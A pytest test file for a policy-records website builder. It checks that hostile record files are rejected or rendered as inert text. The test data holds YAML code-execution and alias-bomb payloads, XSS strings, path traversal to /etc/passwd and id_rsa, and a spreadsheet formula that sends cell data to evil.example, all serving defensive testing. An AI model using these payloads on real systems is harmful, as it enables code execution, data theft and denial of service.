"""Hostile and malformed records, each with its expected outcome.

A record is either rejected with a problem that names the file, the line, the
field and a fix (and the build fails), or accepted and shown inert: its text is
text, never markup or code. Neither a build nor a check ever changes the
editor's files.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import subprocess
import sys
import time
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
import yaml
from policy_library.model.library import load_library
from policy_library.model.problems import Problem
from policy_library.model.records import parse_bytes
from policy_library.model.taxonomy import Taxonomy
from policy_library.site import csp

from tests.support import make_project, run_mkdocs_build

PATH = "docs/records/a-record.md"
HEAD = "---\ntitle: A record\nsummary: A summary.\ndocument_type: Ordinance\npolicy_areas: [Immigration]\n"
# Line numbers of the fields in HEAD; an `extra` field starts at line 6.
EXTRA_LINE = 6


def rec(extra: str = "", body: str = "Body.") -> bytes:
    return f"{HEAD}{extra}---\n{body}\n".encode()


def replace(field: str, value: str) -> bytes:
    """HEAD with one required field's value replaced."""
    text = re.sub(rf"^{field}: .*$", f"{field}: {value}", HEAD, flags=re.M)
    return f"{text}---\nBody.\n".encode()


@dataclass(frozen=True)
class Rejected:
    line: int
    field: str
    says: str  # a fragment of the message
    # What libyaml's loader (used when PyYAML has it) says instead, where it reads differently.
    libyaml: tuple[int, str, str] | None = None

    def matches(self, problem: Problem) -> bool:
        options = [(self.line, self.field, self.says)]
        if self.libyaml and hasattr(yaml, "CSafeLoader"):
            options.append(self.libyaml)
        return any((problem.line, problem.field) == (line, field) and says in problem.message for line, field, says in options)

    def prefixes(self) -> list[str]:
        options = [(self.line, self.field)] + ([self.libyaml[:2]] if self.libyaml and hasattr(yaml, "CSafeLoader") else [])
        return [f"{line}: {field}: " for line, field in options]


# name -> (file bytes, expected problem). Every one fails the build.
REJECTED: dict[str, tuple[bytes, Rejected]] = {
    # Structure of the file
    "empty file": (b"", Rejected(1, "file", "the file is empty")),
    "only whitespace": (b" \n\n\t\n", Rejected(1, "file", "the file is empty")),
    "no frontmatter": (b"# A title\n\nJust Markdown.\n", Rejected(1, "frontmatter", "does not start with frontmatter")),
    "blank line before frontmatter": (b"\n" + rec(), Rejected(1, "frontmatter", "does not start with frontmatter")),
    "unterminated frontmatter": (HEAD.encode() + b"Body without a closing line.\n", Rejected(1, "frontmatter", "never closed")),
    "empty frontmatter": (b"---\n---\nBody.\n", Rejected(1, "frontmatter", "the frontmatter is empty")),
    "frontmatter is a list": (b"---\n- title\n- summary\n---\n", Rejected(2, "frontmatter", "not a list of fields")),
    # YAML syntax
    "unclosed quote": (replace("title", '"Unclosed'), Rejected(6, "frontmatter", "YAML syntax error")),
    "colon inside unquoted text": (replace("summary", "Note: the county ends holds."), Rejected(3, "frontmatter", "YAML syntax error")),
    "tab indentation": (rec("\tjurisdiction: King County\n"), Rejected(6, "frontmatter", "YAML syntax error")),
    "duplicate field": (rec("title: Again\n"), Rejected(6, "title", "given twice (first at line 2)")),
    "python object tag": (
        rec('x: !!python/object/apply:os.system ["touch /tmp/pwned"]\n'),
        Rejected(6, "frontmatter", "!python/object/apply:os.system are not allowed"),
    ),
    "custom tag": (rec("title2: !include /etc/passwd\n"), Rejected(6, "frontmatter", "!include are not allowed")),
    "merge key": (rec("<<: {title: Other}\n"), Rejected(6, "frontmatter", "merge key")),
    "list as a field name": (rec("? [a, b]\n: x\n"), Rejected(6, "frontmatter", "field name must be a word")),
    "nesting 5000 deep": (
        rec("tags: " + "[" * 5000 + "]" * 5000 + "\n"),
        Rejected(1, "frontmatter", "nested too deeply", libyaml=(EXTRA_LINE, "frontmatter", "exceeded maximum nesting depth")),
    ),
    "alias bomb in tags": (
        rec(
            "a: &a [x, x, x, x, x, x, x, x, x]\n"
            + "".join(f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))
            + "tags: *i\n"
        ),
        # The first alias is refused before any value is built (b, line 7, repeats a).
        Rejected(7, "b", "YAML alias"),
    ),
    "alias bomb in an unknown field": (
        rec(
            "a: &a [x, x, x, x, x, x, x, x, x]\n"
            + "".join(f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))
            + "notes: [*i, *i, *i, *i, *i, *i, *i, *i, *i]\n"
        ),
        Rejected(7, "b", "YAML alias"),
    ),
    "alias of a known field's value": (rec("jurisdiction: &j King County\norganization: *j\n"), Rejected(7, "organization", "YAML alias")),
    "unknown field nested three deep": (rec("notes: [[[deep]]]\n"), Rejected(EXTRA_LINE, "notes", "nested 3 levels deep")),
    "unknown field of 20,000 characters": (rec(f"notes: {'x' * 20_000}\n"), Rejected(EXTRA_LINE, "notes", "20,000 characters")),
    "unknown field of 20,000 empty items": (rec("notes: [" + ", ".join(['""'] * 20_000) + "]\n"), Rejected(EXTRA_LINE, "notes", "20,000 characters")),
    # Bodies nested deeper than pages can be rendered
    "list nested 300 deep in the body": (
        rec(body="Intro.\n\n" + "".join("    " * n + "- item\n" for n in range(300))),
        Rejected(EXTRA_LINE + 3 + 33, "body", "nested 33 levels deep"),
    ),
    "quotes nested 3000 deep in the body": (rec(body=">" * 3000 + " quoted"), Rejected(EXTRA_LINE + 1, "body", "nested 3000 levels deep")),
    "emphasis nested 1000 deep in the body": (
        rec(body="Intro.\n\n" + "*a " * 1000 + "x" + " b*" * 1000),
        Rejected(EXTRA_LINE + 3, "body", "nested 33 levels deep"),
    ),
    "a run of 3000 asterisks in the body": (rec(body="*" * 3000 + "x" + "*" * 3000), Rejected(EXTRA_LINE + 1, "body", "nested 3000 levels deep")),
    # Encoding
    "Latin-1 bytes": (replace("title", "Resoluci\xf3n").decode().encode("latin-1"), Rejected(2, "file", "not UTF-8 text (byte 0xf3 at line 2)")),
    "UTF-16 file": (rec().decode().encode("utf-16"), Rejected(1, "file", "not UTF-8 text")),
    "NUL byte in a field": (rec("jurisdiction: King\x00County\n"), Rejected(6, "frontmatter", "invisible control character (#x0000)")),
    "lone surrogate escape": (
        rec('jurisdiction: "\\ud800"\n'),
        Rejected(6, "jurisdiction", "not a character", libyaml=(EXTRA_LINE, "frontmatter", "invalid Unicode character escape")),
    ),
    # Wrong types, every field
    "title is a list": (replace("title", "[One, Two]"), Rejected(2, "title", "must be a piece of text, not a list")),
    "title is empty": (replace("title", '""'), Rejected(2, "title", "is empty")),
    "title is binary": (replace("title", "!!binary aGVsbG8="), Rejected(2, "title", "not binary data")),
    "summary is a group": (replace("summary", "{a: b}"), Rejected(3, "summary", "not a group of fields")),
    "document_type is a list": (replace("document_type", "[Ordinance, Bill]"), Rejected(4, "document_type", "not a list")),
    "document_type is yes/no": (replace("document_type", "yes"), Rejected(4, "document_type", "not yes/no")),
    "policy_areas is a group": (replace("policy_areas", "{Immigration: yes}"), Rejected(5, "policy_areas", "must be a list, not a group")),
    "policy_areas holds a list": (replace("policy_areas", "[[Immigration]]"), Rejected(5, "policy_areas", "contains a list")),
    "policy_areas is missing": (HEAD.replace("policy_areas: [Immigration]\n", "").encode() + b"---\n", Rejected(1, "policy_areas", "is missing")),
    "level is a list": (rec("level: [County]\n"), Rejected(EXTRA_LINE, "level", "not a list")),
    "states is a group": (rec("states: {WA: 1}\n"), Rejected(EXTRA_LINE, "states", "must be a list, not a group")),
    "states is a number": (rec("states: 12\n"), Rejected(EXTRA_LINE, "states", "'12' is not a US state")),
    "jurisdiction is a list": (rec("jurisdiction: [A, B]\n"), Rejected(EXTRA_LINE, "jurisdiction", "not a list")),
    "date is yes/no": (rec("date: yes\n"), Rejected(EXTRA_LINE, "date", "is not a date")),
    "date is a list": (rec("date: [2017]\n"), Rejected(EXTRA_LINE, "date", "is not a date")),
    "date is a fraction": (rec("date: 2017.5\n"), Rejected(EXTRA_LINE, "date", "is not a date")),
    "organization is a group": (rec("organization: {name: X}\n"), Rejected(EXTRA_LINE, "organization", "not a group")),
    "source_url is a list": (rec("source_url: [https://example.org]\n"), Rejected(EXTRA_LINE, "source_url", "not a list")),
    "tags is a group": (rec("tags: {a: b}\n"), Rejected(EXTRA_LINE, "tags", "must be a list, not a group")),
    "tags holds nothing": (rec("tags: [a, ~]\n"), Rejected(EXTRA_LINE, "tags", "contains nothing")),
    "language is a number": (rec("language: 1\n"), Rejected(EXTRA_LINE, "language", "not a language the library knows")),
    "related is a group": (rec("related: {a: b}\n"), Rejected(EXTRA_LINE, "related", "must be a list")),
    "amends is yes/no": (rec("amends: yes\n"), Rejected(EXTRA_LINE, "amends", "must be a list, not yes/no")),
    "file is a list": (rec("file: [files/a.pdf]\n"), Rejected(EXTRA_LINE, "file", "not a list")),
    # Impossible dates
    "February 30 unquoted": (rec("date: 2017-02-30\n"), Rejected(EXTRA_LINE, "date", "day is out of range")),
    "February 29 of a common year": (rec('date: "2019-02-29"\n'), Rejected(EXTRA_LINE, "date", "February 2019 has no day 29")),
    "month 13": (rec("date: 2017-13\n"), Rejected(EXTRA_LINE, "date", "month 13 does not exist")),
    "year 0": (rec("date: 0\n"), Rejected(EXTRA_LINE, "date", "year 0 is out of range")),
    "a word as date": (rec("date: yesterday\n"), Rejected(EXTRA_LINE, "date", "not a date in a form the library reads")),
    # Links that would run code or leave the web
    "javascript: URL": (rec("source_url: javascript:alert(document.cookie)\n"), Rejected(EXTRA_LINE, "source_url", "this one has javascript:")),
    "JavaScript: URL in mixed case": (rec("source_url: JaVaScRiPt:alert(1)\n"), Rejected(EXTRA_LINE, "source_url", "this one has javascript:")),
    "data: URL": (rec('source_url: "data:text/html,<script>alert(1)</script>"\n'), Rejected(EXTRA_LINE, "source_url", "this one has data:")),
    "vbscript: URL": (rec("source_url: vbscript:msgbox(1)\n"), Rejected(EXTRA_LINE, "source_url", "this one has vbscript:")),
    "javascript: split by a tab": (rec('source_url: "java\\tscript:alert(1)"\n'), Rejected(EXTRA_LINE, "source_url", "only http and https")),
    "protocol-relative URL": (rec("source_url: //evil.example/x\n"), Rejected(EXTRA_LINE, "source_url", "no scheme")),
    "https without a host": (rec("source_url: https:alert(1)\n"), Rejected(EXTRA_LINE, "source_url", "not a complete web address")),
    "file outside docs/files": (rec("file: files/../../mkdocs.yml\n"), Rejected(EXTRA_LINE, "file", "is not under docs/files/")),
    "absolute file path": (rec("file: /etc/passwd\n"), Rejected(EXTRA_LINE, "file", "is not under docs/files/")),
    "self reference": (rec("related: [a-record]\n"), Rejected(EXTRA_LINE, "related", "cannot refer to itself")),
    "reference that is not an id": (rec('amends: ["King County!"]\n'), Rejected(EXTRA_LINE, "amends", "is not a record id")),
}


@pytest.mark.parametrize("name", list(REJECTED))
def test_rejected_with_file_line_field_and_fix(name: str, taxonomy: Taxonomy) -> None:
    data, expected = REJECTED[name]
    record, problems = parse_bytes(data, "a-record", taxonomy, path=PATH)
    if record is not None:
        # Not `assert record is None`: pytest would print the record, and an accepted alias bomb prints forever.
        pytest.fail(f"{name}: the record was accepted")
    errors = [p for p in problems if p.is_error]
    assert errors, name
    first = errors[0]
    assert expected.matches(first), str(first)
    assert first.hint, f"no fix offered: {first}"
    assert any(str(first).startswith(f"{PATH}:{prefix}") for prefix in expected.prefixes())


def test_invalid_file_name_is_rejected(taxonomy: Taxonomy) -> None:
    record, problems = parse_bytes(rec(), "King County <b>", taxonomy, path="docs/records/King County <b>.md")
    assert record is None
    assert str(problems[0]).startswith("docs/records/King County <b>.md:1: id: the file name 'King County <b>' is not a valid record id")
    assert "king-county-b.md" in problems[0].hint


PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg onload=alert(3)>{{ 7*7 }}{% raw %}"


def _yaml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


# name -> (file bytes, check of the accepted record)
ACCEPTED: dict[str, tuple[bytes, object]] = {
    "byte-order mark": (b"\xef\xbb\xbf" + rec(), lambda r: r.title == "A record"),
    "Windows line endings": (
        rec("jurisdiction: King County\n", "Line one.\nLine two.").replace(b"\n", b"\r\n"),
        lambda r: r.jurisdiction == "King County" and "\r" not in r.body,
    ),
    "old Mac line endings": (rec("level: County\n").replace(b"\n", b"\r"), lambda r: r.level == "County"),
    "BOM, CRLF and trailing spaces": (b"\xef\xbb\xbf" + rec("tags: [a , b]   \n").replace(b"\n", b"  \r\n"), lambda r: r.tags == ("a", "b")),
    "HTML and script in every text field": (
        rec("".join(f"{field}: {_yaml(PAYLOAD)}\n" for field in ("jurisdiction", "organization")) + f"tags: [{_yaml(PAYLOAD)}, {_yaml('<b>bold</b>')}]\n")
        .replace(b"title: A record", f"title: {_yaml(PAYLOAD)}".encode())
        .replace(b"summary: A summary.", f"summary: {_yaml(PAYLOAD)}".encode()),
        lambda r: r.title == r.summary == r.jurisdiction == r.organization == PAYLOAD and r.tags == (PAYLOAD, "<b>bold</b>"),
    ),
    "raw HTML in the body": (rec(body='<script>alert(1)</script>\n<iframe src="https://evil.example"></iframe>'), lambda r: "<script>" in r.body),
    "quote and markup inside an http URL": (
        rec("source_url: 'https://example.org/a?b=\"><script>alert(1)</script>'\n"),
        lambda r: r.source_url.startswith("https://example.org/"),
    ),
    "control character escapes are dropped": (rec('jurisdiction: "King\\x07 County\\x1b"\n'), lambda r: r.jurisdiction == "King County"),
    "bidi override and isolate controls are removed": (
        rec('jurisdiction: "King \\u202e County\\u2067"\n', body="\u202eBody\u202c.").replace(b"A record", "A \u202erecord\u202c".encode()),
        lambda r: (r.title, r.jurisdiction, r.body) == ("A record", "King County", "Body."),
    ),
    "NFD spellings become NFC": (
        rec("jurisdiction: Bogota\u0301\ntags: [asesori\u0301a]\n", body="Bogota\u0301").replace(b"A record", "Cafe\u0301".encode()),
        lambda r: (r.title, r.jurisdiction, r.tags, r.body) == ("Caf\u00e9", "Bogot\u00e1", ("asesor\u00eda",), "Bogot\u00e1"),
    ),
    "unknown field with a payload is kept and warned": (rec(f"onload: {_yaml(PAYLOAD)}\n"), lambda r: r.extra["onload"] == PAYLOAD),
    "numbers and dates as titles": (replace("title", "2017-01-25"), lambda r: r.title == "2017-01-25"),
    "a YAML set of tags": (rec("tags: !!set {b, a}\n"), lambda r: r.tags == ("a", "b")),
    "a document separator in the body": (rec(body="---\ntitle: not a field\n---\n"), lambda r: "title: not a field" in r.body and r.title == "A record"),
}


@pytest.mark.parametrize("name", list(ACCEPTED))
def test_accepted_as_inert_text(name: str, taxonomy: Taxonomy) -> None:
    data, check = ACCEPTED[name]
    record, problems = parse_bytes(data, "a-record", taxonomy, path=PATH)
    assert [p for p in problems if p.is_error] == []
    assert record is not None
    assert check(record), record  # type: ignore[operator]


def test_five_megabyte_body_is_read_quickly(taxonomy: Taxonomy) -> None:
    body = ("The county ends ICE detainer holds. " * 30 + "\n\n") * 4700
    assert len(body) > 5_000_000
    start = time.perf_counter()
    record, problems = parse_bytes(rec(body=body), "a-record", taxonomy, path=PATH)
    assert time.perf_counter() - start < 2
    assert problems == [] and record is not None and len(record.body) > 5_000_000


def test_a_thousand_tags_are_read_quickly(taxonomy: Taxonomy) -> None:
    tags = ", ".join(f"tag {n}" for n in range(1000))
    start = time.perf_counter()
    record, problems = parse_bytes(rec(f"tags: [{tags}, tag 5]\n"), "a-record", taxonomy, path=PATH)
    assert [p for p in problems if p.is_error] == []
    assert time.perf_counter() - start < 1
    assert record is not None and len(record.tags) == 1000  # the repeated one once


# --- across records: the library ---------------------------------------------

GOOD = HEAD + "{extra}---\nBody.\n"


def write(folder: Path, records: dict[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in records.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def library_errors(records_dir: Path, taxonomy: Taxonomy, docs_dir: Path | None = None) -> list[str]:
    library = load_library(records_dir, taxonomy, root=records_dir.parent.parent, docs_dir=docs_dir)
    return [str(p) for p in library.problems if p.is_error]


def test_ids_that_differ_only_in_case(tmp_path: Path, taxonomy: Taxonomy) -> None:
    records = write(tmp_path / "docs" / "records", {"sb-54.md": GOOD.format(extra=""), "SB-54.md": GOOD.format(extra="")})
    found = library_errors(records, taxonomy)
    assert any(e.startswith("docs/records/SB-54.md:1: id: the file name 'SB-54' is not a valid record id") for e in found), found
    assert any(e.startswith("docs/records/sb-54.md:1: id: the id clashes with docs/records/SB-54.md (rename one of the two files)") for e in found), found


def test_references_to_missing_records(tmp_path: Path, taxonomy: Taxonomy) -> None:
    records = write(
        tmp_path / "docs" / "records", {"sb-54.md": GOOD.format(extra="related: [sb-45]\namends: [ab-4, sb-54-old]\n"), "sb-45-2017.md": GOOD.format(extra="")}
    )
    found = library_errors(records, taxonomy)
    assert "docs/records/sb-54.md:6: related: there is no record 'sb-45' (did you mean sb-45-2017?)" in found
    assert any(e.startswith("docs/records/sb-54.md:7: amends: there is no record 'ab-4'") for e in found)
    assert any(e.startswith("docs/records/sb-54.md:7: amends: there is no record 'sb-54-old'") for e in found)


def test_record_that_is_a_link_is_rejected(tmp_path: Path, taxonomy: Taxonomy) -> None:
    secret = tmp_path / "secret.md"
    secret.write_text(GOOD.format(extra=""), encoding="utf-8")
    records = write(tmp_path / "docs" / "records", {})
    (records / "linked.md").symlink_to(secret)
    assert library_errors(records, taxonomy) == [
        "docs/records/linked.md:1: file: the record is a link to another file (replace the link with the record file itself)"
    ]


def test_archived_copy_that_links_outside_docs_files_is_rejected(tmp_path: Path, taxonomy: Taxonomy) -> None:
    docs = tmp_path / "docs"
    (docs / "files").mkdir(parents=True)
    (tmp_path / "id_rsa").write_text("secret", encoding="utf-8")
    (docs / "files" / "copy.pdf").symlink_to(tmp_path / "id_rsa")
    records = write(docs / "records", {"a.md": GOOD.format(extra="file: files/copy.pdf\n")})
    found = library_errors(records, taxonomy, docs_dir=docs)
    assert found == [
        "docs/records/a.md:6: file: docs/files/copy.pdf is a link to a file outside docs/files/ (put a copy of the document itself in docs/files/)"
    ]


def test_record_in_a_subfolder_is_rejected(tmp_path: Path, taxonomy: Taxonomy) -> None:
    records = write(tmp_path / "docs" / "records", {})
    write(records / "2017", {"a.md": GOOD.format(extra="")})
    assert library_errors(records, taxonomy) == [
        "docs/records/2017/a.md:1: file: records must be directly in the records folder (move it to docs/records/a.md)"
    ]


# --- real builds: rejected builds fail, accepted payloads are inert ------------


def digest(folder: Path) -> dict[str, str]:
    """Every file's bytes and mode, by path."""
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() + oct(os.stat(p).st_mode) for p in sorted(folder.rglob("*")) if p.is_file()
    }


class Elements(HTMLParser):
    """What a browser would see as elements: tags, attributes, script text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        # A data block (<script type="application/json">) is text a script reads, never run.
        self._in_script = tag == "script" and (dict(attrs).get("type") or "").strip().lower() in csp.EXECUTABLE_TYPES

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def active_content(html: str) -> list[str]:
    """Anything in the page that would run or load from elsewhere."""
    parser = Elements()
    parser.feed(html)
    found = []
    for tag, attrs in parser.tags:
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}={value!r}>")
            # The search page's own icon is an image in a data: address (site/favicon.py), drawn by the browser, never run.
            own_icon = tag == "link" and attrs.get("rel") == "icon" and name == "href" and (value or "").startswith("data:image/")
            active = name in ("href", "src", "action", "formaction", "xlink:href") and re.match(r"\s*(javascript|data|vbscript):", value or "", re.I)
            if active and not own_icon:
                found.append(f"<{tag} {name}={value!r}>")
        # The theme's own inline <svg> icons are fine; their handlers would not be.
        if tag in ("iframe", "object", "embed", "base") or (tag == "form" and re.match(r"\s*([a-z]+:|//)", attrs.get("action") or "", re.I)):
            found.append(f"<{tag}>")
        if tag == "img" and re.match(r"(https?:)?//", attrs.get("src") or ""):
            found.append(f"<img src={attrs.get('src')!r}>")
    found += [f"script: {s[:60]}" for s in parser.scripts if "alert(" in s]
    return found


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
HOSTILE_BODY = """Intro paragraph.

<script>alert('body script')</script>
<iframe src="https://evil.example/"></iframe>
<img src="https://tracker.example/pixel.gif" alt="tracker">
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('link')">a javascript link</a>
<a href="https://example.org/" onclick="alert('click')">an outbound link</a>
<object data="x.swf"></object><embed src="x.swf">
<form action="https://evil.example/"><input name="q"></form>
<style>body { display: none }</style>
<svg onload="alert('svg')"></svg>
<table><tr><th>Kept</th><td><abbr title="Immigration and Customs Enforcement">ICE</abbr></td></tr></table>

[markdown javascript link](javascript:alert('md'))
"""


# As deep as a body may nest (limits.MAX_BODY_DEPTH), lists inside quotes and emphasis inside brackets.
DEEP_BODY = "".join("> " + "    " * n + "- level\n" for n in range(32)) + "\n" + "[" * 16 + "*a " * 16 + "deep" + " b*" * 16 + "](x)" * 16 + "\n"


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, dict[str, str], dict[str, str], str]:
    tmp = tmp_path_factory.mktemp("hostile")
    accepted = ACCEPTED["HTML and script in every text field"][0].decode()
    project = make_project(
        tmp,
        {
            "payload-fields.md": accepted.replace("Body.", HOSTILE_BODY),
            "crlf-bom.md": "\ufeff" + GOOD.format(extra="related: [payload-fields]\n").replace("\n", "\r\n"),
            "formula.md": GOOD.replace("title: A record", f"title: {_yaml(FORMULA)}").format(extra="organization: '@SUM(1+1)'\n"),
            "nested-to-the-limit.md": GOOD.replace("Body.", DEEP_BODY).format(extra=""),
        },
    )
    before = digest(project / "docs")
    site = tmp / "site"
    result = run_mkdocs_build(project, site)
    assert result.returncode == 0, result.stderr
    return project, site, before, digest(project / "docs"), result.stderr


def test_build_of_hostile_records_leaves_the_files_unchanged(hostile_build: tuple[Path, Path, dict[str, str], dict[str, str], str]) -> None:
    _, _, before, after, _ = hostile_build
    assert after == before


def test_payloads_render_as_text_and_nothing_runs(hostile_build: tuple[Path, Path, dict[str, str], dict[str, str], str]) -> None:
    _, site, *_ = hostile_build
    page = (site / "records" / "payload-fields" / "index.html").read_text(encoding="utf-8")
    assert active_content(page) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the title and other fields, shown literally
    # The row the page's citation files are written from: data, whose "<" cannot end its element.
    assert '"title":"\\u003cscript>alert(1)\\u003c/script>' in page
    assert "<b>bold</b>" not in page
    # The body policy: tables and <abbr> stay, everything active goes.
    assert '<abbr title="Immigration and Customs Enforcement">ICE</abbr>' in page
    parser = Elements()
    parser.feed(page)
    addresses = [v for _, attrs in parser.tags for v in attrs.values() if v]
    assert not [a for a in addresses if "tracker.example" in a or "evil.example" in a]  # the iframe, form and pixel are gone
    assert 'href="https://example.org/" rel="noopener noreferrer"' in page
    for path in site.rglob("*.html"):
        assert active_content(path.read_text(encoding="utf-8")) == [], path
    other = (site / "records" / "crlf-bom" / "index.html").read_text(encoding="utf-8")
    assert "\ufeff" not in other and active_content(other) == []


def test_templates_in_record_text_are_not_evaluated(hostile_build: tuple[Path, Path, dict[str, str], dict[str, str], str]) -> None:
    _, site, *_ = hostile_build
    page = (site / "records" / "payload-fields" / "index.html").read_text(encoding="utf-8")
    assert "{{ 7*7 }}{% raw %}" in page


def test_rejected_library_fails_lists_every_problem_and_keeps_files(tmp_path: Path) -> None:
    records = {f"case-{n:02d}.md": data for n, (data, _) in enumerate(REJECTED.values())}
    project = make_project(tmp_path, {})
    folder = project / "docs" / "records"
    for name, data in records.items():
        (folder / name).write_bytes(data)
    (folder / "good.md").write_text(GOOD.format(extra=""), encoding="utf-8")
    before = digest(project / "docs")
    site = tmp_path / "site"
    result = run_mkdocs_build(project, site)
    assert result.returncode != 0
    for n, (_, expected) in enumerate(REJECTED.values()):
        assert any(f"docs/records/case-{n:02d}.md:{prefix}" in result.stderr for prefix in expected.prefixes()), list(REJECTED)[n]
    assert f"in {len(REJECTED)} files; nothing was published" in result.stderr
    assert "Traceback" not in result.stderr
    assert not site.exists()
    assert digest(project / "docs") == before


def test_link_in_docs_leading_outside_fails_the_build(tmp_path: Path) -> None:
    """MkDocs copies what links point to: a committed link could publish the build machine's files."""
    project = make_project(tmp_path, {"a.md": GOOD.format(extra="")})
    secret = tmp_path / "id_rsa"
    secret.write_text("PRIVATE KEY", encoding="utf-8")
    (project / "docs" / "files" / "report.pdf").symlink_to(secret)
    (project / "docs" / "files" / "folder").symlink_to(tmp_path, target_is_directory=True)
    site = tmp_path / "site"
    result = run_mkdocs_build(project, site)
    assert result.returncode != 0
    assert "docs/files/report.pdf:1: file: is a link to a file outside the docs folder (replace the link with a copy of the file itself)" in result.stderr
    assert "docs/files/folder:1: file: is a link" in result.stderr
    assert not site.exists()


def test_open_data_and_feed_carry_payloads_as_inert_text(hostile_build: tuple[Path, Path, dict[str, str], dict[str, str], str]) -> None:
    """Spreadsheets do not run the cells of records.csv; the feed and JSON carry the text as text."""
    _, site, *_ = hostile_build
    rows = {row["id"]: row for row in csv.DictReader((site / "records.csv").read_text(encoding="utf-8-sig").splitlines())}
    assert rows["formula"]["title"] == "'" + FORMULA and rows["formula"]["organization"] == "'@SUM(1+1)"
    assert rows["payload-fields"]["title"] == PAYLOAD
    data = {r["id"]: r for r in json.loads((site / "records.json").read_text(encoding="utf-8"))}
    assert data["formula"]["title"] == FORMULA and data["payload-fields"]["title"] == PAYLOAD
    feed = ElementTree.parse(site / "feed.xml")  # well-formed despite the markup in the records
    titles = [t.text for t in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert PAYLOAD in titles and FORMULA in titles


def test_check_reports_every_rejected_record_and_keeps_files(tmp_path: Path) -> None:
    """`library check`, as editors run it, on every rejected case at once: all listed, no file touched."""
    project = make_project(tmp_path, {})
    folder = project / "docs" / "records"
    for n, (data, _) in enumerate(REJECTED.values()):
        (folder / f"case-{n:02d}.md").write_bytes(data)
    (folder / "good.md").write_text(GOOD.format(extra=""), encoding="utf-8")
    before = digest(project)
    result = subprocess.run([sys.executable, "-m", "policy_library.cli", "check"], cwd=project, capture_output=True, text=True, timeout=120)
    assert result.returncode == 1
    output = result.stdout + result.stderr
    for n, (_, expected) in enumerate(REJECTED.values()):
        assert any(f"docs/records/case-{n:02d}.md:{prefix}" in output for prefix in expected.prefixes()), list(REJECTED)[n]
    assert "Traceback" not in output
    assert digest(project) == before


def test_body_nested_as_deep_as_allowed_is_rendered(hostile_build: tuple[Path, Path, dict[str, str], dict[str, str], str]) -> None:
    """The body limit sits well below what Python-Markdown can render: a body at the limit builds."""
    _, site, *_ = hostile_build
    page = (site / "records" / "nested-to-the-limit" / "index.html").read_text(encoding="utf-8")
    body = page[page.index('class="library-body"') :]
    assert body.count("<ul>") == 32 and body.count("<em>") == 16


def test_a_word_mixing_latin_and_cyrillic_letters_is_warned_about(taxonomy: Taxonomy) -> None:
    """ACLU with a Cyrillic A would be a second "ACLU" filter and browse page: the editor is told which field and word."""
    data = rec("organization: \u0410CLU\ntags: [\u0410CLU, \u03a4rust Act]\njurisdiction: Sofia and \u0421\u043e\u0444\u0438\u044f\n")
    record, problems = parse_bytes(data, "a-record", taxonomy, path=PATH)
    assert record is not None and record.organization == "\u0410CLU"
    assert [str(p) for p in problems] == [
        f"{PATH}:6: organization: the word '\u0410CLU' mixes Cyrillic and Latin letters (retype the word: a letter that looks Latin may be Cyrillic"
        " or Greek (such as a Cyrillic A, U+0410, in ACLU), which makes it another value) [warning]",
        f"{PATH}:7: tags: the word '\u0410CLU' mixes Cyrillic and Latin letters (retype the word: a letter that looks Latin may be Cyrillic"
        " or Greek (such as a Cyrillic A, U+0410, in ACLU), which makes it another value) [warning]",
    ]


def test_nfc_and_nfd_spellings_are_one_filter_value(tmp_path: Path, taxonomy: Taxonomy) -> None:
    records = write(
        tmp_path / "docs" / "records",
        {"a.md": GOOD.format(extra="organization: Centro Legal de la Ra\u0301za\n"), "b.md": GOOD.format(extra="organization: Centro Legal de la R\u00e1za\n")},
    )
    library = load_library(records, taxonomy, root=tmp_path)
    assert {r.organization for r in library} == {"Centro Legal de la R\u00e1za"}


def test_record_text_is_isolated_from_the_page_direction(hostile_build: tuple[Path, Path, dict[str, str], dict[str, str], str]) -> None:
    """A right-to-left title or value turns only itself around, never the page around it."""
    _, site, *_ = hostile_build
    page = (site / "records" / "payload-fields" / "index.html").read_text(encoding="utf-8")
    assert '<h1 dir="auto" lang="en">' in page and '<p class="library-summary" dir="auto" lang="en">' in page
    home = (site / "index.html").read_text(encoding="utf-8")
    results = re.findall(r'<li class="library-result"[^>]*>\s*<a [^>]*>', home)
    assert results and all('dir="auto"' in link for link in results)
